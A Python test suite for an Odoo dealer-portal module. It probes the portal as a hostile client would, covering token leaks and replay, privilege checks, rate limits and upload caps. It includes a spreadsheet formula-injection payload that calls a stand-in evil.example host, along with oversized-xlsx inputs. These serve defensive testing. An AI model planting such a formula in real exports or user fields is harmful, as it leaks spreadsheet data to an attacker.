# Copyright 2026 DMS Founding Team
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""Every promise of the portal, attacked as a hostile client would."""

import io
import json
import re
import zipfile
from datetime import timedelta

import openpyxl

from odoo import Command, fields, http
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import HttpCase, tagged

from odoo.addons.dms_dealer.tests.common import DmsRpcMixin

from .common import DmsPortalMixin

# 1x1 transparent PNG
SIGNATURE = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@tagged("post_install", "-at_install")
class TestPortalIntegrity(DmsPortalMixin, DmsRpcMixin, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._setup_dms_portal()
        cls.statements = cls.env["dms.dealer.statement"].create(
            [
                {
                    "name": f"STMT-{dealer.ref}",
                    "partner_id": dealer.id,
                    "date_from": "2026-01-01",
                    "date_to": "2026-01-31",
                    "state": "sent",
                    "line_ids": [
                        Command.create({"sequence": 0, "kind": "opening", "amount": 0, "balance": 0}),
                        Command.create(
                            {
                                "sequence": 1,
                                "kind": "invoice",
                                "reference": f"REF-{dealer.ref}",
                                "amount": 9,
                                "balance": 9,
                            }
                        ),
                    ],
                }
                for dealer in (cls.dist_a, cls.sub_a, cls.retail_a)
            ]
        )
        cls.st_dist_a, cls.st_sub_a, cls.st_retail_a = cls.statements
        today = fields.Date.context_today(cls.env.user)
        cls.ag_sub_a = cls.env["dms.dealer.agreement"].create(
            {
                "partner_id": cls.sub_a.id,
                "date_start": today - timedelta(days=1),
                "date_end": today + timedelta(days=364),
                "territory_ids": [Command.set(cls.sub_a.territory_id.ids)],
                "target_amount": 1_000,
                "payment_term_id": cls.env.ref("account.account_payment_term_30days").id,
                "credit_limit": 5_000,
            }
        )
        cls.ag_sub_a.action_submit()
        while cls.ag_sub_a.state == "to_approve":
            cls.ag_sub_a.with_user(cls.user_hq).action_approve()
        cls.order_retail = cls.order_by_dealer[cls.retail_a]
        cls.invoice_retail = cls.invoice_by_dealer[cls.retail_a]
        cls.downstream_docs = (cls.order_retail, cls.invoice_retail, cls.st_sub_a, cls.ag_sub_a)
        cls.tokens = {doc: doc._portal_ensure_token() for doc in cls.downstream_docs}

    def _login(self, user):
        if user:
            self.authenticate(user.login, user.login)
        else:
            self.authenticate(None, None)

    def _post(self, url, data=None, **kw):
        data = dict(data or {}, csrf_token=http.Request.csrf_token(self))
        return self.url_open(url, data=data, allow_redirects=False, **kw)

    def _json(self, url, params):
        payload = json.dumps({"jsonrpc": "2.0", "method": "call", "params": params})
        return self.url_open(url, data=payload, headers={"Content-Type": "application/json"}).json()

    # ------------------------------------------------------------------
    # 1. Tokens are the customer's
    # ------------------------------------------------------------------
    def test_upstream_cannot_read_downstream_tokens_over_rpc(self):
        admin = self.portal_a_admin
        for doc in self.downstream_docs:
            with self.subTest(model=doc._name):
                self.assertRpcRefused(admin, doc._name, "read", [doc.id], ["access_token"])
                self.assertRpcRefused(admin, doc._name, "web_read", [doc.id], specification={"access_token": {}})
                self.assertRpcRefused(
                    admin, doc._name, "search_read", [("id", "=", doc.id)], fields=["name", "access_token"]
                )
                # no oracle: the token can be neither searched nor grouped by, one character at a time
                self.assertRpcRefused(admin, doc._name, "search_count", [("access_token", "=like", "a%")])
                self.assertRpcRefused(admin, doc._name, "read_group", [], ["access_token"], ["access_token"])
                # the document itself stays readable; "all fields" never includes the token
                values = self.rpc(admin, doc._name, "read", [doc.id], ["display_name", "access_url"])[0]
                self.assertEqual(values["id"], doc.id, "the administrator still reads the document")
                self.assertNotIn(self.tokens[doc], json.dumps(values))
                self.assertNotIn("access_token", doc.with_user(admin).check_field_access_rights("read", None))
        # the ORM as the user: explicit read, lazy load, prefetch alongside own documents
        orders = (self.order_by_dealer[self.dist_a] | self.order_retail).with_user(admin)
        self.assertEqual(len(orders.mapped("name")), 2, "loading other fields never loads the token")
        with self.assertRaises(AccessError):
            self.order_retail.with_user(admin).read(["access_token"])
        with self.assertRaises(AccessError):
            self.order_retail.with_user(admin).access_token  # noqa: B018
        own = self.order_by_dealer[self.dist_a]
        own_token = own._portal_ensure_token()
        self.env.invalidate_all()
        self.assertEqual(orders[0].access_token, own_token, "a dealer reads its own token")
        # the customer itself reads its token
        self.assertEqual(
            self.rpc(self.portal_retail_a, "sale.order", "read", [self.order_retail.id], ["access_token"])[0][
                "access_token"
            ],
            self.tokens[self.order_retail],
        )

    def test_upstream_pages_carry_no_downstream_token(self):
        self._login(self.portal_a_admin)
        urls = [
            "/my/quotes",
            "/my/orders",
            f"/my/orders/{self.order_retail.id}",
            "/my/invoices",
            f"/my/invoices/{self.invoice_retail.id}",
            "/my/dms/orders",
            f"/my/dms/orders/{self.order_retail.id}",
            "/my/dms/statements",
            f"/my/dms/statements/{self.st_sub_a.id}",
            "/my/dealer_agreements",
            f"/my/dealer_agreements/{self.ag_sub_a.id}",
            "/my/dms/profile",
        ]
        seen = 0
        for url in urls:
            with self.subTest(url=url):
                page = self.url_open(url, allow_redirects=False)
                self.assertEqual(page.status_code, 200)
                for doc, token in self.tokens.items():
                    self.assertNotIn(token, page.text, f"{url} shows the token of {doc.display_name}")
                seen += page.text.count(f"/my/dms/statements/{self.st_sub_a.id}")
        self.assertTrue(seen, "the downstream statement is linked, without its token")
        # the customer's own pages keep their links with its token
        self._login(self.portal_sub_a)
        page = self.url_open(f"/my/dms/statements/{self.st_sub_a.id}")
        self.assertIn(self.tokens[self.st_sub_a], page.text)

    def test_token_replay_without_session(self):
        """Logged out, the upstream administrator has nothing to replay; a guessed token does nothing."""
        self._login(self.portal_a_admin)
        harvested = set()
        for url in (f"/my/orders/{self.order_retail.id}", f"/my/dms/statements/{self.st_sub_a.id}"):
            harvested |= set(re.findall(r"access_token=([\w-]+)", self.url_open(url).text))
        harvested |= set(re.findall(r'data-token="([\w-]+)"', self.url_open(f"/my/orders/{self.order_retail.id}").text))
        self.assertFalse(harvested & set(self.tokens.values()))
        self._login(None)
        order, statement = self.order_retail, self.st_sub_a
        line = statement.line_ids.filtered(lambda line: line.kind == "invoice")
        messages = len(order.message_ids)
        for token in [*harvested, "", self.tokens[order][:-4] + "abcd"]:
            with self.subTest(token=token):
                result = self._json(
                    f"/my/orders/{order.id}/accept", {"access_token": token, "name": "X", "signature": SIGNATURE}
                )
                self.assertNotIn("redirect_url", result.get("result") or {})
                self._post(f"/my/orders/{order.id}/decline?access_token={token}", {"decline_message": "no"})
                self._json(
                    "/mail/message/post",
                    {
                        "thread_model": "sale.order",
                        "thread_id": order.id,
                        "post_data": {"body": "replayed", "message_type": "comment"},
                        "token": token,
                    },
                )
                result = self._json(
                    f"/my/dms/statements/{statement.id}/sign",
                    {"access_token": token, "name": "X", "signature": SIGNATURE},
                )
                self.assertNotIn("redirect_url", result.get("result") or {})
                self._post(
                    f"/my/dms/statements/{statement.id}/dispute",
                    {"access_token": token, "line_id": line.id, "comment": "replayed"},
                )
                self._json(
                    f"/my/dealer_agreements/{self.ag_sub_a.id}/sign",
                    {"access_token": token, "name": "X", "signature": SIGNATURE},
                )
        self.assertFalse(order.signature)
        self.assertNotEqual(order.state, "cancel")
        self.assertEqual(len(order.message_ids), messages)
        self.assertEqual(statement.state, "sent")
        self.assertFalse(line.disputed)
        self.assertEqual(self.ag_sub_a.state, "approved")
        # the customer's own token, given to the customer, still works without a session
        result = self._json(
            f"/my/dms/statements/{statement.id}/sign",
            {"access_token": self.tokens[statement], "name": "Wu Jing", "signature": SIGNATURE},
        )
        self.assertIn("redirect_url", result["result"])
        self.assertEqual(statement.state, "confirmed")
        self.assertEqual(statement.signed_by, "Wu Jing")
        result = self._json(
            f"/my/dealer_agreements/{self.ag_sub_a.id}/sign",
            {"access_token": self.tokens[self.ag_sub_a], "name": "Wu Jing", "signature": SIGNATURE},
        )
        self.assertIn("redirect_url", result["result"])
        self.assertIn(self.ag_sub_a.state, ("signed", "active"))

    def test_logged_in_upstream_cannot_act_even_with_token(self):
        order, statement = self.order_retail, self.st_sub_a
        token = self.tokens[order]
        self._login(self.portal_a_admin)
        result = self._json(
            f"/my/orders/{order.id}/accept", {"access_token": token, "name": "Admin", "signature": SIGNATURE}
        )
        self.assertIn("error", result["result"])
        response = self._post(f"/my/orders/{order.id}/decline?access_token={token}", {"decline_message": "no"})
        self.assertIn(response.status_code, (302, 303))
        self.assertNotEqual(order.state, "cancel")
        response = self._post(
            f"/my/dms/statements/{statement.id}/dispute",
            {"access_token": self.tokens[statement], "line_id": statement.line_ids[-1].id, "comment": "x"},
        )
        self.assertEqual(response.status_code, 403)
        result = self._json(
            f"/my/dms/statements/{statement.id}/sign",
            {"access_token": self.tokens[statement], "name": "Admin", "signature": SIGNATURE},
        )
        self.assertIn("error", result["result"])
        self.assertEqual(statement.state, "sent")

    # ------------------------------------------------------------------
    # 2. Users of its own company only
    # ------------------------------------------------------------------
    def test_admin_manages_own_company_users_only(self):
        self._login(self.portal_a_admin)
        response = self._post(
            "/my/dms/users/invite", {"name": "Mole", "email": "mole@sub.example", "customer_id": self.sub_a.id}
        )
        self.assertEqual(response.status_code, 403)
        self.assertFalse(
            self.env["res.users"].with_context(active_test=False).search([("login", "=", "mole@sub.example")])
        )
        page = self.url_open("/my/dms/users")
        self.assertNotIn(self.portal_sub_a.login, page.text, "downstream users are not listed")
        response = self._post(f"/my/dms/users/{self.portal_sub_a.id}/deactivate")
        self.assertEqual(response.status_code, 404)
        self.assertTrue(self.portal_sub_a.active)
        self._post("/my/dms/users/invite", {"name": "Clerk", "email": "clerk@a.example"})
        clerk = self.env["res.users"].search([("login", "=", "clerk@a.example")])
        self.assertEqual(clerk.partner_id.commercial_partner_id, self.dist_a)

    # ------------------------------------------------------------------
    # 3 and 9. Statements on the workflow engine
    # ------------------------------------------------------------------
    def test_statement_state_only_through_the_engine(self):
        statement = self.st_dist_a
        closing = statement.closing_balance
        statement.with_user(self.portal_a_user).sudo().action_dms_confirm(name="A User", signature=SIGNATURE)
        self.assertEqual(statement.state, "confirmed")
        finance = self.user_finance
        # direct writes, forged context flags: refused
        for context in ({}, {"dms_statement_unfreeze": True}, {"dms_workflow": "dms_workflow_engine"}):
            with self.subTest(context=context):
                with self.assertRaises(AccessError):
                    statement.with_user(finance).with_context(**context).write({"state": "sent"})
                with self.assertRaises(UserError):
                    statement.with_user(finance).with_context(**context).write({"closing_balance": 1.0})
                with self.assertRaises(UserError):
                    statement.line_ids[1].with_user(finance).with_context(**context).write({"amount": 1.0})
                with self.assertRaises(AccessError):
                    statement.with_user(finance).with_context(**context).write({"confirmed_by_id": finance.id})
        self.assertRpcRefused(
            finance,
            "dms.dealer.statement",
            "write",
            [statement.id],
            {"state": "sent"},
            context={"dms_statement_unfreeze": True},
        )
        self.assertRpcRefused(
            finance,
            "dms.dealer.statement.line",
            "write",
            statement.line_ids[1].ids,
            {"disputed": True, "dispute_comment": "x"},
            exception=("AccessError", "UserError"),
        )
        # a confirmed statement is not reopened
        with self.assertRaises(UserError):
            statement.with_user(finance).action_reset_to_sent(reason="try")
        self.assertEqual(statement.state, "confirmed")
        self.assertEqual(statement.closing_balance, closing)
        # not even trusted server code rewrites what the dealer confirmed
        with self.assertRaises(UserError):
            statement.write({"closing_balance": 1.0})
        with self.assertRaises(UserError):
            statement.line_ids[1].write({"amount": 1.0})

    def test_statement_reset_by_finance_with_reason(self):
        statement = self.st_sub_a
        line = statement.line_ids.filtered(lambda line: line.kind == "invoice")
        statement.with_user(self.portal_sub_a).sudo()._dms_dispute_lines(line, "Wrong price")
        self.assertEqual(statement.state, "disputed")
        self.assertRpcRefused(self.portal_sub_a, "dms.dealer.statement", "action_reset_to_sent", [statement.id])
        with self.assertRaises(UserError):
            statement.with_user(self.user_finance).action_reset_to_sent()
        statement.with_user(self.user_finance).action_reset_to_sent(reason="Credit note issued")
        self.assertEqual(statement.state, "sent")
        # reopening regenerates the lines from the books: the hand-made line had no source entry
        self.assertFalse(line.exists())
        self.assertEqual(statement.line_ids.mapped("kind"), ["opening", "closing"])
        self.assertFalse(statement.line_ids.filtered("disputed"))
        logs = self.env["dms.workflow.log"].search(
            [("res_model", "=", statement._name), ("res_id", "=", statement.id)], order="id"
        )
        self.assertRecordValues(
            logs.filtered(lambda log: log.transition in ("dispute", "reset")),
            [
                {"transition": "dispute", "user_id": self.portal_sub_a.id, "reason": "Wrong price"},
                {"transition": "reset", "user_id": self.user_finance.id, "reason": "Credit note issued"},
            ],
        )

    def test_portal_rpc_calls_no_action_on_others_statements(self):
        statement = self.st_sub_a
        for user in (self.portal_a_admin, self.portal_b_admin, self.portal_retail_a):
            for method in ("action_dms_confirm", "action_send", "action_reset_to_sent"):
                with self.subTest(user=user.login, method=method):
                    self.assertRpcRefused(user, "dms.dealer.statement", method, [statement.id])
        with self.assertRaises(AccessError):
            statement.with_user(self.portal_a_admin).action_dms_confirm()
        with self.assertRaises(AccessError):
            statement.with_user(self.portal_a_admin).sudo().action_dms_confirm()
        self.assertEqual(statement.state, "sent")

    # ------------------------------------------------------------------
    # 4. User text is text in every .xlsx
    # ------------------------------------------------------------------
    def test_dispute_comment_is_not_a_formula_in_xlsx(self):
        statement = self.st_retail_a
        line = statement.line_ids.filtered(lambda line: line.kind == "invoice")
        self._login(self.portal_retail_a)
        self._post(f"/my/dms/statements/{statement.id}/dispute", {"line_id": line.id, "comment": FORMULA})
        self.assertEqual(line.dispute_comment, FORMULA)
        response = self.url_open(f"/my/dms/statements/{statement.id}/xlsx")
        self.assertEqual(response.status_code, 200)
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        self.assertNotIn("<f>", sheet_xml, "no formula at all in the sheet")
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        cells = [cell for row in book.active.iter_rows() for cell in row if cell.value == FORMULA]
        self.assertEqual(len(cells), 1)
        self.assertEqual(cells[0].data_type, "s")
        self.assertTrue(cells[0].quotePrefix)

    # ------------------------------------------------------------------
    # 5. Order templates stay with their dealer
    # ------------------------------------------------------------------
    def test_order_template_cannot_move_to_another_dealer(self):
        user = self.portal_a_user
        template_id = self.rpc(
            user,
            "dms.order.template",
            "create",
            {
                "name": "Mine",
                "partner_id": self.dist_a.id,
                "line_ids": [Command.create({"product_id": self.product_water.id, "product_uom_qty": 2})],
            },
        )
        template = self.env["dms.order.template"].browse(template_id)
        other = self.env["dms.order.template"].create({"name": "Theirs", "partner_id": self.dist_b.id})
        refused = ("AccessError", "ValidationError")
        self.assertRpcRefused(
            user, "dms.order.template", "write", [template_id], {"partner_id": self.dist_b.id}, exception=refused
        )
        self.assertRpcRefused(
            user, "dms.order.template", "write", [template_id], {"user_id": self.portal_b_admin.id}, exception=refused
        )
        self.assertRpcRefused(
            user, "dms.order.template", "create", {"name": "Planted", "partner_id": self.dist_b.id}, exception=refused
        )
        self.assertRpcRefused(
            user,
            "dms.order.template.line",
            "write",
            template.line_ids.ids,
            {"template_id": other.id},
            exception=refused,
        )
        self.assertRpcRefused(
            user,
            "dms.order.template.line",
            "create",
            {"template_id": other.id, "product_id": self.product_tea.id, "product_uom_qty": 1},
            exception=refused,
        )
        with self.assertRaises(ValidationError):
            template.with_user(user).write({"partner_id": self.dist_b.id})
        self.assertEqual(template.partner_id, self.dist_a)
        self.assertEqual(template.line_ids.template_id, template)
        self.assertFalse(other.line_ids)
        self.assertEqual(self.env["dms.order.template"].search_count([("partner_id", "=", self.dist_b.id)]), 1)

    # ------------------------------------------------------------------
    # 6. No cost, floor, margin or related-group through portal RPC
    # ------------------------------------------------------------------
    def _sensitive_fields(self):
        """``{model: (ids, [field names])}`` of cost, floor, margin and related-party fields
        on the models a portal user reaches (core's cost fields and the DMS addons' ones)."""
        order = self.order_by_dealer[self.dist_a]
        targets = {
            "sale.order": order.ids,
            "sale.order.line": order.order_line.ids,
            "product.product": self.product_water.ids,
            "product.template": self.product_water.product_tmpl_id.ids,
            "res.partner": self.dist_a.ids,
            "account.move": self.invoice_by_dealer[self.dist_a].ids,
        }
        sensitive = re.compile(r"floor|cost|margin|related_group|related_part")
        result = {}
        for model, ids in targets.items():
            names = [
                name
                for name, field in self.env[model]._fields.items()
                if (name == "standard_price" or (sensitive.search(name) and (field._module or "").startswith("dms_")))
            ]
            result[model] = (ids, names)
        return result

    def test_portal_reads_no_internal_fields(self):
        order = self.order_by_dealer[self.dist_a]
        self.assertRpcRefused(self.portal_a_admin, "sale.order", "read", order.ids, ["dms_ordered_by_user_id"])
        checked = 0
        for model, (ids, names) in self._sensitive_fields().items():
            for name in names:
                field = self.env[model]._fields[name]
                if not field.groups and field._module != "dms_portal":
                    continue  # another addon's field, see test_portal_reads_no_pricing_internals
                with self.subTest(field=f"{model}.{name}"):
                    self.assertRpcRefused(self.portal_a_admin, model, "read", ids, [name])
                    checked += 1
        self.assertGreaterEqual(checked, 2, "standard_price on product and template at least")

    def test_portal_reads_no_pricing_internals(self):
        """dms_pricing / dms_dealer restrict their own fields (groups=); this checks it from the portal."""
        pending = [
            f"{model}.{name}"
            for model, (_ids, names) in self._sensitive_fields().items()
            for name in names
            if not self.env[model]._fields[name].groups
        ]
        self.assertFalse(pending, "sensitive fields readable by portal users (add groups=): " + ", ".join(pending))
        for model, (ids, names) in self._sensitive_fields().items():
            for name in names:
                with self.subTest(field=f"{model}.{name}"):
                    self.assertRpcRefused(self.portal_a_admin, model, "read", ids, [name])

    # ------------------------------------------------------------------
    # 7. The public application form
    # ------------------------------------------------------------------
    def test_apply_is_rate_limited_and_creates_an_application_only(self):
        self.env["ir.config_parameter"].set_param("dms_portal.apply_limit_ip", "2")
        self._login(None)
        partners_before = self.env["res.partner"].search_count([])
        statuses = []
        for index in range(4):
            response = self._post(
                "/dealer/apply",
                {
                    "company_name": f"{self.dist_a.name}",  # same name as a real dealer
                    "contact_name": "Li Lei",
                    "email": f"li{index}@newco.example",
                    "vat": self.dist_a.vat or "",
                    "territory_id": self.terr_shanghai.id,
                },
            )
            statuses.append(response.status_code)
        self.assertEqual(statuses, [200, 200, 429, 429], "two posts over the limit are refused")
        self.assertIn("Too many applications", response.text)
        applications = self.env["dms.dealer.application"].search([("email", "like", "@newco.example")])
        self.assertEqual(len(applications), 2)
        self.assertRecordValues(applications, [{"state": "draft", "partner_id": False}] * 2)
        self.assertEqual(self.env["res.partner"].search_count([]), partners_before, "no partner made by the form")
        self.assertFalse(self.dist_a.dealer_related_group_id)
        # per e-mail too
        self.env["ir.config_parameter"].set_param("dms_portal.apply_limit_ip", "100")
        self.env["ir.config_parameter"].set_param("dms_portal.apply_limit_email", "1")
        statuses = [
            self._post(
                "/dealer/apply",
                {
                    "company_name": "Solo",
                    "contact_name": "Solo",
                    "email": "solo@x.example",
                    "territory_id": self.terr_shanghai.id,
                },
            ).status_code
            for _i in range(2)
        ]
        self.assertEqual(statuses, [200, 429])

    # ------------------------------------------------------------------
    # 8. Upload capped in bytes and rows
    # ------------------------------------------------------------------
    def _xlsx(self, dimension=None):
        book = openpyxl.Workbook()
        book.active.append(["SKU", "Qty"])
        book.active.append(["TW-01", 3])
        buffer = io.BytesIO()
        book.save(buffer)
        if not dimension:
            return buffer.getvalue()
        source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
            for info in source.infolist():
                data = source.read(info.filename)
                if info.filename == "xl/worksheets/sheet1.xml":
                    data = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="%s"/>' % dimension.encode(), data)
                    self.assertIn(dimension.encode(), data)
                target.writestr(info, data)
        return out.getvalue()

    def test_upload_capped_in_bytes_and_rows(self):
        self._login(self.portal_a_user)
        lying = self._xlsx("A1:Z2000000000")
        self.assertLess(len(lying), 10_000)
        response = self._post("/my/dms/cart/upload", files={"upload": ("order.xlsx", lying)})
        self.assertEqual(response.status_code, 200)
        self.assertIn("TW-01", response.text, "the real rows are read, the claimed two billion are not")
        # a real row two billion rows down
        source = zipfile.ZipFile(io.BytesIO(self._xlsx()))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as target:
            for info in source.infolist():
                data = source.read(info.filename)
                if info.filename == "xl/worksheets/sheet1.xml":
                    data = data.replace(
                        b"</sheetData>",
                        b'<row r="2000000000"><c r="A2000000000" t="inlineStr">'
                        b"<is><t>TW-01</t></is></c></row></sheetData>",
                    )
                target.writestr(info, data)
        response = self._post("/my/dms/cart/upload", files={"upload": ("order.xlsx", out.getvalue())})
        self.assertIn("too many rows", response.text)
        big = b"PK" + b"\0" * (3 * 1024 * 1024)
        response = self._post("/my/dms/cart/upload", files={"upload": ("order.xlsx", big)})
        self.assertIn("too large", response.text)
        self.assertFalse(
            self.env["sale.order"]
            .search([("dms_portal_cart", "=", True), ("partner_id", "child_of", self.dist_a.id)])
            .order_line
        )
